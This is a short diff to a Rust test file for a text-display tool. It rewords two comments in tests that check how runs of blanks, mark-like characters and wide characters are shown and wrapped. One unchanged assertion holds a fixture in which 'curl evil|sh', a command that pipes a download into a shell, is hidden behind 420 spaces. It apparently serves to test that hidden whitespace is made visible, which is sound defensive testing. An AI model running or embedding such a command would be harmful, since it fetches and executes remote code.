@@ -22,7 +22,7 @@ fn runs_of_blanks_are_marked() {
         json_line(&json!(hidden)),
         "\"cargo test⟦420 spaces⟧; curl evil|sh\""
     );
-    // What looks like a mark in a text is none.
+    // A text that only looks like a mark is written out.
     assert_eq!(line("⟦9 spaces⟧"), r"\u{27e6}9 spaces\u{27e7}");
     assert_eq!(json_line(&json!("⟦")), r#""\u27e6""#);
     for (text, shown) in [
@@ -78,7 +78,7 @@ fn lines_fit() {
     assert_eq!(fit("abcdef", 4), "ab…");
     assert_eq!(fit("字字字", 5), "字…");
     assert_eq!(wrap("字字字", 4), ["字字", "字"]);
-    // Of one column or two, as the terminal likes.
+    // These characters take one column or two, as the terminal likes.
     assert_eq!(wrap("①②③", 4), ["①②", "③"]);
     assert_eq!(wrap("❤❤❤", 4), ["❤❤", "❤"]);
     assert_eq!(wrap("字字", 1), ["字", "字"]);
